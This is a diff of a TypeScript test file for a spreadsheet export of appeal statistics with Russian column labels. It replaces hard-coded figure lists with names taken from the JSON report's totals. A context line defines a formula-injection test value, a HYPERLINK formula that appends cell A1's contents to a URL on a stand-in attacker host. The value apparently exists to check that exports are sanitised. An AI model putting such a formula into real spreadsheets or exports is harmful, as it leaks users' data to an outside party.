@@ -27,8 +27,6 @@ const RU_FIGURES = [
   'Поступило', 'Рассмотрено', 'Решено положительно', 'Разъяснено', 'Отказано', 'Оставлено без рассмотрения', 'Отозвано', 'На рассмотрении',
   'Просрочено', 'Отвечено в срок', 'Доля положительных от рассмотренных', 'Доля положительных от поступивших', 'Доля отвеченных в срок',
 ];
-const FIGURES = ['received', 'decided', 'positive', 'explained', 'rejected', 'withoutConsideration', 'withdrawn', 'pending', 'overdue', 'answeredOnTime', 'positiveShare', 'positiveShareOfReceived', 'onTimeShare'];
-const SHARES = new Set(['positiveShare', 'positiveShareOfReceived', 'onTimeShare']);
 const INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")';
 
 /** Splits parsed lines into title, header and sections: an empty line ends the title and each section. */
@@ -89,12 +87,14 @@ function expectSameAsJson(parsed: Sheet, json: JsonReport, lang: Lang, keyCells:
     const out = parsed.sections[i];
     expect(out.heading).toBe(i === 0 ? null : `${WORDS[lang].comparison}: ${s.from} – ${s.to}`);
     expect(out.rows).toHaveLength(s.rows.length);
+    // The figures in the order of the JSON's totals, which is the order of the columns.
+    const names = Object.keys(s.totals);
     const figures = (cells: Cell[], from: Record<string, unknown>) => {
-      const offset = cells.length - FIGURES.length;
-      FIGURES.forEach((f, j) => {
+      const offset = cells.length - names.length;
+      names.forEach((f, j) => {
         const value = from[f] as number | null;
         const got = figure(cells[offset + j]);
-        if (value === null || !SHARES.has(f)) expect([f, got]).toEqual([f, value]);
+        if (value === null || !f.includes('Share')) expect([f, got]).toEqual([f, value]);
         else expect(got).toBeCloseTo(value, 4);
       });
     };
